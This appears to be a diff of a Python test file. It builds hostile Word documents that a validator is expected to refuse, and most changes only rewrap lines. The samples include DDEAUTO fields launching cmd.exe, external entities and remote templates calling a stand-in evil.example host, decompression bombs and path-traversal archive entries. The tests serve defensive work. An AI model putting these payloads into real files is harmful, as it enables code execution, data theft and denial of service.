@@ -1,4 +1,4 @@
-"""Word files that are made to harm whoever opens, unpacks or reads them. All of them are refused before anything else."""
+"""Word files that are made to harm whoever opens, unpacks or reads them. All are refused before anything else."""
 
 from __future__ import annotations
 
@@ -13,14 +13,20 @@ from tests.studio.corpus.labels import Hostile
 from tests.wordfile.builders import contents
 
 _FIELDS = (
-    *("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"", 'DDE Excel "Sheet1" R1C1', 'INCLUDETEXT "/etc/passwd"'),
-    *('INCLUDEPICTURE "http://evil.example/x.png" \\d', "LINK Excel.Sheet.12 c:\\\\x.xlsx R1C1", 'IMPORT "c:\\\\x.png"'),
+    *('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', 'DDE Excel "Sheet1" R1C1', 'INCLUDETEXT "/etc/passwd"'),
+    *(
+        'INCLUDEPICTURE "http://evil.example/x.png" \\d',
+        "LINK Excel.Sheet.12 c:\\\\x.xlsx R1C1",
+        'IMPORT "c:\\\\x.png"',
+    ),
     *("DATABASE \\d c:\\\\x.mdb", 'RD "c:\\\\x.docx"', "AUTOTEXT evil", "MACROBUTTON AutoOpen press", "EMBED Package"),
     *('ASK name "your password"', 'FILLIN "your password"', 'HYPERLINK "file:///c:/windows/system32/calc.exe"'),
     *('HYPERLINK "javascript:alert(1)"', 'HYPERLINK "\\\\\\\\evil.example\\\\share"', "PRINT 27"),
 )
 _HEAD = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
-_REST = '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+_REST = (
+    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+)
 _OUTSIDE = {
     "remote template": ("attachedTemplate", "http://evil.example/x.dotm", "word_file.forbidden_link"),
     "template on a share": ("attachedTemplate", "\\\\evil.example\\x.dotm", "word_file.forbidden_link"),
@@ -37,7 +43,10 @@ _OUTSIDE = {
 }
 _ELEMENTS = {
     "imported document": ('<w:altChunk r:id="x"/>', "word_file.forbidden_element"),
-    "object": ('<w:p><w:r><w:object><o:OLEObject ProgID="Package" r:id="x"/></w:object></w:r></w:p>', "word_file.embedded"),
+    "object": (
+        '<w:p><w:r><w:object><o:OLEObject ProgID="Package" r:id="x"/></w:object></w:r></w:p>',
+        "word_file.embedded",
+    ),
     "control": ('<w:p><w:r><w:control w:name="x" r:id="x"/></w:r></w:p>', "word_file.forbidden_element"),
     "subdocument": ('<w:p><w:subDoc r:id="x"/></w:p>', "word_file.forbidden_element"),
 }
@@ -103,7 +112,16 @@ def _overlapping() -> bytes:
     record = directory[directory.rindex(b"PK\x01\x02") :]
     name = entry.filename.encode()
     copies = b"".join(_renamed(record, name, f"word/media/{number:05d}".encode()) for number in range(600))
-    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, *(2 * [directory.count(b"PK\x01\x02") + 600]), len(directory + copies), start, 0)
+    end = struct.pack(
+        "<4s4H2LH",
+        b"PK\x05\x06",
+        0,
+        0,
+        *(2 * [directory.count(b"PK\x01\x02") + 600]),
+        len(directory + copies),
+        start,
+        0,
+    )
     return whole[:start] + directory + copies + end
 
 
@@ -119,44 +137,100 @@ def _hostile(name: str, code: str, make: Callable[[], bytes], by: str = "a hosti
 
 HOSTILE = (
     *(
-        _hostile(f"field {code.split()[0]} {number}", "word_file.field", lambda code=code: word(p(field(code)), p(r("{{ name }}"))))
+        _hostile(
+            f"field {code.split()[0]} {number}",
+            "word_file.field",
+            lambda code=code: word(p(field(code)), p(r("{{ name }}"))),
+        )
         for number, code in enumerate(_FIELDS)
     ),
     _hostile(
         "field in pieces",
         "word_file.field",
-        lambda: word(p(_HEAD, *(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in ("DD", "EA", 'UTO cmd "/k"')), _REST)),
+        lambda: word(
+            p(
+                _HEAD,
+                *(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in ("DD", "EA", 'UTO cmd "/k"')),
+                _REST,
+            )
+        ),
     ),
     _hostile("field in lower case", "word_file.field", lambda: word(p(field('ddeauto cmd "/k calc"')))),
-    _hostile("field in one element", "word_file.field", lambda: word(p('<w:fldSimple w:instr="DDEAUTO cmd"><w:r><w:t>1</w:t></w:r></w:fldSimple>'))),
-    _hostile("field within a field", "word_file.field", lambda: word(p(_HEAD, "<w:r><w:instrText> IF 1 = 1 </w:instrText></w:r>", field("INCLUDETEXT x"), _REST))),
+    _hostile(
+        "field in one element",
+        "word_file.field",
+        lambda: word(p('<w:fldSimple w:instr="DDEAUTO cmd"><w:r><w:t>1</w:t></w:r></w:fldSimple>')),
+    ),
+    _hostile(
+        "field within a field",
+        "word_file.field",
+        lambda: word(p(_HEAD, "<w:r><w:instrText> IF 1 = 1 </w:instrText></w:r>", field("INCLUDETEXT x"), _REST)),
+    ),
     *(
         _hostile(name, code, lambda kind=kind, target=target: _outside(kind, target))
         for name, (kind, target, code) in _OUTSIDE.items()
     ),
     *(_hostile(name, code, lambda xml=xml: word(xml, p(r("{{ name }}")))) for name, (xml, code) in _ELEMENTS.items()),
     _hostile("macros", "word_file.macro", lambda: _with("word/vbaProject.bin", b"x")),
-    _hostile("macros by their type", "word_file.macro", lambda: _typed("application/vnd.ms-word.document.macroEnabled.main+xml")),
+    _hostile(
+        "macros by their type",
+        "word_file.macro",
+        lambda: _typed("application/vnd.ms-word.document.macroEnabled.main+xml"),
+    ),
     _hostile("ActiveX", "word_file.embedded", lambda: _with("word/activeX/activeX1.bin", b"x")),
     _hostile("embedded file", "word_file.embedded", lambda: _with("word/embeddings/evil.docm", b"x")),
     _hostile("billion laughs", "word_file.document_type", _laughs),
-    _hostile("entity from a file", "word_file.document_type", lambda: _entities('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;")),
-    _hostile("entity from the net", "word_file.document_type", lambda: _entities('<!ENTITY x SYSTEM "http://evil.example/">', "&x;")),
-    _hostile("parameter entity", "word_file.document_type", lambda: _entities('<!ENTITY % x SYSTEM "http://evil.example/"> %x;', "x")),
-    _hostile("deep elements", "word_file.beyond_xml|word_file.broken_xml", lambda: word("<w:sdt><w:sdtContent>" * 3000 + p("x") + "</w:sdtContent></w:sdt>" * 3000)),
-    _hostile("a text of twelve megabytes", "word_file.beyond_xml|word_file.bomb|template.part_too_large", lambda: word(p(r("x" * (12 << 20))))),
+    _hostile(
+        "entity from a file",
+        "word_file.document_type",
+        lambda: _entities('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;"),
+    ),
+    _hostile(
+        "entity from the net",
+        "word_file.document_type",
+        lambda: _entities('<!ENTITY x SYSTEM "http://evil.example/">', "&x;"),
+    ),
+    _hostile(
+        "parameter entity",
+        "word_file.document_type",
+        lambda: _entities('<!ENTITY % x SYSTEM "http://evil.example/"> %x;', "x"),
+    ),
+    _hostile(
+        "deep elements",
+        "word_file.beyond_xml|word_file.broken_xml",
+        lambda: word("<w:sdt><w:sdtContent>" * 3000 + p("x") + "</w:sdtContent></w:sdt>" * 3000),
+    ),
+    _hostile(
+        "a text of twelve megabytes",
+        "word_file.beyond_xml|word_file.bomb|template.part_too_large",
+        lambda: archived(contents(word(p(r("x" * (12 << 20)))))),
+    ),
     _hostile("a name of a hundred thousand letters", "word_file.beyond_xml", lambda: word(f"<w:{'x' * 100_000}/>")),
-    _hostile("millions of tags", "word_file.too_many_tags|word_file.bomb|template.part_too_large", lambda: word("<w:p/>" * 9_000_000)),
+    _hostile(
+        "millions of tags",
+        "word_file.too_many_tags|word_file.bomb|template.part_too_large",
+        lambda: archived(contents(word("<w:p/>" * 9_000_000))),
+    ),
     _hostile("zeros", "word_file.bomb", _zeros),
     _hostile("entries over each other", "word_file.unpacks_too_large|word_file.damaged|word_file.bomb", _overlapping),
-    _hostile("too many entries", "word_file.too_many_parts", lambda: archived({**contents(_base()), **{f"x/{n}.xml": b"" for n in range(1500)}})),
+    _hostile(
+        "too many entries",
+        "word_file.too_many_parts",
+        lambda: archived({**contents(_base()), **{f"x/{n}.xml": b"" for n in range(1500)}}),
+    ),
     _hostile("path above the root", "word_file.path", lambda: _with("../../etc/cron.d/evil", b"x")),
     _hostile("path of Windows", "word_file.path", lambda: _with("..\\..\\evil.exe", b"x")),
     _hostile("absolute path", "word_file.path", lambda: _with("/etc/passwd", b"x")),
-    _hostile("an entry twice", "word_file.part_twice", lambda: _zip(lambda archive: archive.writestr("WORD/document.xml", b"<x/>"))),
+    _hostile(
+        "an entry twice",
+        "word_file.part_twice",
+        lambda: _zip(lambda archive: archive.writestr("WORD/document.xml", b"<x/>")),
+    ),
     _hostile("cut off", "word_file.not_zip|word_file.damaged", lambda: _base()[:-200]),
     _hostile("no archive", "word_file.not_zip", lambda: b"MZ" + b"\0" * 1000),
-    _hostile("old or encrypted", "word_file.old_or_encrypted", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 4096),
+    _hostile(
+        "old or encrypted", "word_file.old_or_encrypted", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 4096
+    ),
     _hostile("an archive of something else", "word_file.not_word", lambda: archived({"a.txt": b"x"})),
     _hostile("nothing", "word_file.not_zip", lambda: b""),
 )
